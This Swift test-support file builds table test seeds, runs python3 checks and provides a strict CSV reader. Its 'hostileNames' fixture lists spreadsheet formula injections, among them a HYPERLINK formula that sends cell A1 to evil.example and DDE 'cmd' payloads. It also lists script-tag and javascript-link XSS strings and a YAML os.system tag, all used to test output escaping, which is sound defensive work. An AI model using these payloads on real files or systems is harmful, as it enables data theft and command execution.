import Foundation
import PortolanAnalysis
import PortolanModel
import PortolanReaders
import PortolanTestSupport

/// Seeds from the repository's Input/ folder and a model whose names try to break every format.
enum TableSeeds {
    static let repository = URL(fileURLWithPath: Repository.root)
    static let inputFolder = repository.appendingPathComponent("Input")

    static func products() throws -> [Product] {
        let names = try FileManager.default.contentsOfDirectory(atPath: inputFolder.path)
            .filter { $0.hasSuffix(".txt") }.sorted()
        let documents = try names.map { name -> Document in
            let bytes = [UInt8](try Data(contentsOf: inputFolder.appendingPathComponent(name)))
            return DocumentReader.read(path: "Input/\(name)", text: try SourceText.decode(bytes).get())
        }
        return Products.group(Model(documents: documents))
    }

    static func inventory() throws -> Inventory {
        Inventory.parse(try String(contentsOf: inputFolder.appendingPathComponent("inventory.yaml"), encoding: .utf8)).0
    }

    /// Names and descriptions that are formulas, markup, YAML syntax, control characters or
    /// escapes in one format or another.
    static let hostileNames = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTabbed",
        "\rCarriage",
        "\nNewline",
        "pipe | in | name",
        "<script>alert(1)</script> & more",
        "line one\nline two\r\nline three",
        "nul\u{0}bell\u{7}escape\u{1B}",
        "_x0041_ looks like an escape",
        "\"quoted\", with comma",
        "key: value # not a comment",
        "- not a list",
        "*anchor &alias !!python/object:os.system",
        "`code` *bold* [link](javascript:alert(1)) ~~strike~~ # heading",
        "Ünïcödé ☎ 𝄞 \u{2028}separator",
    ]

    static func hostileProduct() -> Product {
        var connections: [Connection] = []
        for (index, name) in hostileNames.enumerated() {
            let next = hostileNames[(index + 1) % hostileNames.count]
            connections.append(Connection(
                number: "\(index + 1)", source: name, destination: next, protocol: index % 3 == 0 ? "HTTPS" : "TCP",
                ports: PortSpec(ranges: [PortRange(1000 + index)], text: "\(1000 + index)"),
                classification: index % 2 == 0 ? "Egress" : "Intra-cluster", description: next, line: index + 10))
        }
        let document = Document(path: "hostile.md", subject: "=evil|product\n<b>", connections: connections,
                                services: [IncludedService(name: hostileNames[7], description: hostileNames[9], line: 1)])
        return Products.group(Model(documents: [document]))[0]
    }

    /// An inventory that places every hostile name in a namespace with pod labels.
    static func hostileInventory() -> Inventory {
        Inventory(entries: hostileNames.enumerated().map { index, name in
            Inventory.Entry(name: name, namespace: "ns-\(index % 3)", podLabels: ["app": "c\(index)"],
                            addresses: ["10.0.\(index).0/24"])
        })
    }
}

/// Runs python3 checks; tests that need a module are disabled, with the install command, when it is missing.
enum Python {
    static func has(_ module: String) -> Bool {
        (try? run(["-c", "import \(module)"]).status) == 0
    }

    static func run(_ arguments: [String], executable: String = "python3") throws -> (status: Int32, output: String) {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = [executable] + arguments
        let pipe = Pipe()
        process.standardOutput = pipe
        process.standardError = pipe
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: data, as: UTF8.self))
    }

    static func hasExecutable(_ name: String) -> Bool {
        (try? run(["-c", "import shutil,sys; sys.exit(0 if shutil.which('\(name)') else 1)"]).status) == 0
    }

    static func temporaryFolder() throws -> URL {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("portolan-tables-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
        return url
    }
}

/// A strict RFC 4180 reader, so the tests do not trust the writer's own idea of CSV.
enum CSVReader {
    struct Malformed: Error { var offset: Int }

    static func parse(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var scalars = Array(text.unicodeScalars)[...]
        var quotedField = false
        while let c = scalars.first {
            scalars = scalars.dropFirst()
            if quotedField {
                if c == "\"" {
                    if scalars.first == "\"" { field.unicodeScalars.append("\""); scalars = scalars.dropFirst() }
                    else { quotedField = false }
                } else {
                    field.unicodeScalars.append(c)
                }
                continue
            }
            switch c {
            case "\"":
                guard field.isEmpty else { throw Malformed(offset: scalars.startIndex) }
                quotedField = true
            case ",":
                row.append(field); field = ""
            case "\r":
                guard scalars.first == "\n" else { throw Malformed(offset: scalars.startIndex) }
                scalars = scalars.dropFirst()
                row.append(field); field = ""
                rows.append(row); row = []
            case "\n":
                throw Malformed(offset: scalars.startIndex)
            default:
                field.unicodeScalars.append(c)
            }
        }
        if quotedField { throw Malformed(offset: scalars.startIndex) }
        if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
        return rows
    }
}
